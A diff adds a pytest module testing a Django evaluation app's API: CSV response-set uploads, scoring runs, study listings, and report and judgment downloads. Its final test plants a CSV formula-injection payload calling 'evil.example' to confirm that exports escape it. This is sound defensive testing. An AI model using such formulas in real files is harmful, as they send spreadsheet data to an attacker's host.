@@ -1,0 +1,271 @@
+"""The API end to end: upload a response set, start and poll a scoring run,
+list studies, download a report and the judgments.
+
+Cast: ``owner`` (staff, token), ``rita`` (researcher, token); study "Main"
+of 6 pairs judged by ``evaluator-ada1`` (4 answers: 3 votes, 1 skip) and
+``evaluator-bob2`` (2 votes).
+"""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from django.test import Client, override_settings
+from django.urls import reverse
+
+from annotate.api.tokens import api_token_create
+from annotate.forms import NOTHING_UPLOADED
+from annotate.models import (
+    Dataset,
+    Judgment,
+    LanguageModel,
+    Participation,
+    Question,
+    Response,
+    ResponseSet,
+    RunStatus,
+    ScoringRun,
+    Subject,
+)
+from annotate.services.judging import judging_screen, judgment_submit
+from annotate.services.studies import ensure_role_groups
+from tests.annotate.factories import make_catalog, make_evaluator, make_study, make_user
+
+pytestmark = pytest.mark.django_db
+
+IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
+DATABASE = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
+# 2 models x 3 questions, one cell missing (m2 never answered q3): 5 observed responses.
+LONG_CSV = b"model,question_id,credit\nm1,q1,1\nm1,q2,0\nm1,q3,0.5\nm2,q1,1\nm2,q2,1\n"
+# Row 3 (the header is row 1) has a credit outside [0, 1]; row 5 a non-number.
+BAD_CSV = b"model,question_id,credit\nm1,q1,1\nm1,q2,1.7\nm2,q1,0\nm2,q2,abc\n"
+
+
+def judge(participation: Participation, choices: list[str]) -> None:
+    for choice in choices:
+        screen = judging_screen(participation=participation)
+        judgment_submit(participation=participation, pair_id=screen.pair.pk, left_question_id=screen.left.pk,
+                        choice=choice)
+
+
+@pytest.fixture
+def cast():
+    catalog = make_catalog(per_subject=4)
+    study = make_study(catalog, n_pairs=6, name="Main")
+    judge(make_evaluator(study, "evaluator-ada1"), ["left", "right", "skip", "left"])
+    judge(make_evaluator(study, "evaluator-bob2"), ["right", "right"])
+    researchers, _ = ensure_role_groups()
+    rita = make_user("rita")
+    rita.groups.add(researchers)
+    owner = make_user("owner", staff=True)
+    return catalog, study, Client(HTTP_AUTHORIZATION=f"Token {api_token_create(user=owner)[1]}"), \
+        Client(HTTP_AUTHORIZATION=f"Token {api_token_create(user=rita)[1]}")
+
+
+def upload(client: Client, content: bytes, name: str = "responses.csv", **fields):
+    file = io.BytesIO(content)
+    file.name = name
+    return client.post(reverse("api_response_sets"), {"responses": file, "dataset": "api-bench", **fields})
+
+
+# --- response sets ------------------------------------------------------------------
+
+
+def test_a_staff_script_uploads_a_response_set(cast):
+    _, _, staff, _ = cast
+    response = upload(staff, LONG_CSV, name="nightly.csv")
+    assert response.status_code == 201
+    body = response.json()
+    assert (body["name"], body["version"], body["n_responses"], body["n_questions"], body["n_models"]) == (
+        "nightly", 1, 5, 3, 2)
+    assert response["Location"] == reverse("api_response_set", kwargs={"response_set_id": body["id"]})
+    stored = ResponseSet.objects.get(pk=body["id"])
+    credits = {(r.model.name, r.question.external_id): r.credit
+               for r in Response.objects.filter(response_set=stored).select_related("model", "question")}
+    assert credits == {("m1", "q1"): 1.0, ("m1", "q2"): 0.0, ("m1", "q3"): 0.5, ("m2", "q1"): 1.0, ("m2", "q2"): 1.0}
+    assert staff.get(response["Location"]).json()["checksum"] == stored.checksum
+    assert [rs["id"] for rs in staff.get(reverse("api_response_sets")).json()["response_sets"]][0] == body["id"]
+
+
+def test_a_refused_upload_lists_its_problems_by_file_row_and_column(cast):
+    _, _, staff, _ = cast
+    before = (ResponseSet.objects.count(), Question.objects.count(), LanguageModel.objects.count())
+    response = upload(staff, BAD_CSV)
+    assert response.status_code == 400
+    body = response.json()
+    assert body["error"] == "nothing was loaded"
+    located = {(p["file"], p["row"], p["column"]) for p in body["problems"]}
+    assert ("responses.csv", 3, "credit") in located and ("responses.csv", 5, "credit") in located
+    assert all("eip-api-upload" not in p["file"] + p["message"] for p in body["problems"])  # no temp paths
+    assert (ResponseSet.objects.count(), Question.objects.count(), LanguageModel.objects.count()) == before
+
+
+def test_a_dry_run_previews_and_writes_nothing(cast):
+    _, _, staff, _ = cast
+    before = (ResponseSet.objects.count(), Dataset.objects.count(), Question.objects.count())
+    response = upload(staff, LONG_CSV, dry_run="true")
+    assert response.status_code == 200
+    preview = response.json()["preview"]
+    assert (preview["n_responses"], preview["questions_new"], preview["models_new"], preview["datasets_new"]) == (
+        5, 3, 2, 1)
+    assert (ResponseSet.objects.count(), Dataset.objects.count(), Question.objects.count()) == before
+
+
+def test_a_second_upload_of_the_same_bytes_is_refused(cast):
+    _, _, staff, _ = cast
+    assert upload(staff, LONG_CSV, name="a.csv").status_code == 201
+    again = upload(staff, LONG_CSV, name="a.csv")
+    assert again.status_code == 400
+    assert "these files were already loaded" in again.json()["problems"][0]["message"]
+
+
+def test_form_errors_name_the_field(cast):
+    _, _, staff, _ = cast
+    response = staff.post(reverse("api_response_sets"), {"dataset": "x"})
+    assert response.status_code == 400
+    assert response.json() == {"error": "the upload's fields are invalid", "fields": {"__all__": [NOTHING_UPLOADED]}}
+    response = upload(staff, LONG_CSV, file_format="helm")
+    assert response.json()["fields"] == {"file_format": ["helm is a harness-log format; it cannot read a responses file"]}
+
+
+def test_harness_logs_are_left_to_the_command_and_the_admin(cast):
+    _, _, staff, _ = cast
+    log = io.BytesIO(b"{}")
+    log.name = "results.json"
+    response = staff.post(reverse("api_response_sets"), {"logs": log})
+    assert response.status_code == 400 and "load harness logs with manage.py load_responses --logs" in \
+        response.json()["error"]
+
+
+def test_a_researcher_cannot_upload(cast):
+    _, _, _, researcher = cast
+    before = ResponseSet.objects.count()
+    assert upload(researcher, LONG_CSV).status_code == 403
+    assert ResponseSet.objects.count() == before
+
+
+# --- scoring runs -------------------------------------------------------------------
+
+
+def test_a_script_starts_a_run_and_polls_it_to_done(cast):
+    catalog, _, staff, _ = cast
+    with override_settings(TASKS=IMMEDIATE):
+        response = staff.post(reverse("api_scoring_runs"), {"response_set": catalog.response_set.pk,
+                                                             "params": {"methods": ["eip", "accuracy"]}},
+                              content_type="application/json")
+    assert response.status_code == 202
+    polled = staff.get(response["Location"]).json()
+    assert (polled["status"], polled["progress"]) == ("done", 1.0)
+    assert sorted(m["method"] for m in polled["methods"]) == ["accuracy", "eip"]
+    assert polled["params"]["methods"] == ["eip", "accuracy"]
+
+
+def test_with_the_database_queue_the_run_waits_for_the_worker(cast):
+    from django_tasks_db.models import DBTaskResult
+
+    catalog, _, staff, _ = cast
+    with override_settings(TASKS=DATABASE):
+        response = staff.post(reverse("api_scoring_runs"), {"response_set": catalog.response_set.pk},
+                              content_type="application/json")
+    assert response.status_code == 202 and response.json()["status"] == "queued"
+    run = ScoringRun.objects.get(pk=response.json()["id"])
+    assert run.status == RunStatus.QUEUED
+    assert DBTaskResult.objects.filter(args_kwargs__args=[run.pk]).count() == 1
+
+
+@pytest.mark.parametrize(
+    ("body", "message"),
+    [
+        ("not json", "the request body must be a JSON object"),
+        ("[1, 2]", "the request body must be a JSON object"),
+        ('{"response_set": 1, "colour": "red"}',
+         "unknown key(s) ['colour']; known: ['response_set', 'model_ids', 'dataset_ids', 'params']"),
+        ('{"response_set": 999999}', "response_set must be the id of an existing response set; got 999999"),
+        ('{"response_set": true}', "response_set must be the id of an existing response set; got True"),
+    ],
+)
+def test_a_bad_run_request_is_refused_and_creates_nothing(cast, body, message):
+    _, _, staff, _ = cast
+    before = ScoringRun.objects.count()
+    response = staff.post(reverse("api_scoring_runs"), body, content_type="application/json")
+    assert response.status_code == 400 and response.json() == {"error": message}
+    assert ScoringRun.objects.count() == before
+
+
+def test_the_scoring_service_checks_the_params(cast):
+    catalog, _, staff, _ = cast
+    response = staff.post(reverse("api_scoring_runs"), {"response_set": catalog.response_set.pk,
+                                                         "params": {"alpha": 1.5}}, content_type="application/json")
+    assert response.status_code == 400 and response.json() == {"error": "alpha must be a number in (0, 1); got 1.5"}
+
+
+def test_an_unknown_run_is_a_json_404(cast):
+    _, _, staff, _ = cast
+    response = staff.get(reverse("api_scoring_run", kwargs={"run_id": 424242}))
+    assert response.status_code == 404 and response.json() == {"error": "no scoring run 424242"}
+
+
+# --- studies, reports, judgments ----------------------------------------------------
+
+
+def test_a_researcher_lists_the_studies_with_counts(cast):
+    _, study, _, researcher = cast
+    studies = researcher.get(reverse("api_studies")).json()["studies"]
+    main = next(s for s in studies if s["id"] == study.pk)
+    # ada: 3 votes + 1 skip, bob: 2 votes -> 5 votes from 2 evaluators
+    assert (main["name"], main["n_pairs"], main["n_evaluators"], main["n_judgments"]) == ("Main", 6, 2, 5)
+
+
+def test_a_researcher_downloads_the_judgments_as_json_and_csv(cast):
+    _, study, _, researcher = cast
+    url = reverse("api_study_judgments", kwargs={"study_id": study.pk})
+    rows = researcher.get(url).json()["judgments"]
+    assert len(rows) == Judgment.objects.filter(pair__study=study).count() == 6
+    assert sorted({r["evaluator"] for r in rows}) == ["evaluator-ada1", "evaluator-bob2"]
+    assert sorted(r["choice"] for r in rows) == ["left", "left", "right", "right", "right", "skip"]
+    response = researcher.get(url, {"format": "csv"})
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == f'attachment; filename="study-{study.pk}-judgments.csv"'
+    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert len(table) == 6 and {r["evaluator"] for r in table} == {"evaluator-ada1", "evaluator-bob2"}
+
+
+def test_a_researcher_downloads_the_report(cast):
+    _, study, _, researcher = cast
+    url = reverse("api_study_report", kwargs={"study_id": study.pk})
+    report = researcher.get(url, {"n_boot": 20}).json()
+    assert report["study"]["id"] == study.pk and "schema_version" in report
+    as_csv = researcher.get(url, {"n_boot": 20, "format": "csv"})
+    assert as_csv.status_code == 200 and as_csv["Content-Type"] == "text/csv; charset=utf-8"
+
+
+@pytest.mark.parametrize(
+    ("query", "message"),
+    [
+        ({"format": "xml"}, "format must be one of ['json', 'csv']; got 'xml'"),
+        ({"n_boot": "many"}, "n_boot must be an integer; got 'many'"),
+        ({"run": "987654"}, "run must be the id of an existing scoring run; got 987654"),
+    ],
+)
+def test_bad_report_parameters_are_400(cast, query, message):
+    _, study, _, researcher = cast
+    response = researcher.get(reverse("api_study_report", kwargs={"study_id": study.pk}), query)
+    assert response.status_code == 400 and response.json() == {"error": message}
+
+
+def test_judgment_exports_carry_the_formula_injection_guard(cast):
+    catalog, study, _, researcher = cast
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    Subject.objects.filter(pk=catalog.subjects[0].pk).update(name="@SUM(1+1)")
+    for k, question in enumerate(Question.objects.filter(pk__in=[q.pk for q in catalog.questions])):
+        question.external_id = f"{hostile}{k}"
+        question.text = hostile
+        question.save()
+    response = researcher.get(reverse("api_study_judgments", kwargs={"study_id": study.pk}), {"format": "csv"})
+    table = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+    cells = [row[c] for row in table for c in ("question_a", "question_b", "left_question", "right_question")]
+    assert cells and all(cell.startswith("'=HYPERLINK(") for cell in cells)
+    subjects = {row["subject"] for row in table}
+    assert subjects <= {"'@SUM(1+1)", "Physics"} and "'@SUM(1+1)" in subjects
+    assert not any(line.startswith(("=", "@")) for line in response.content.decode("utf-8-sig").splitlines())
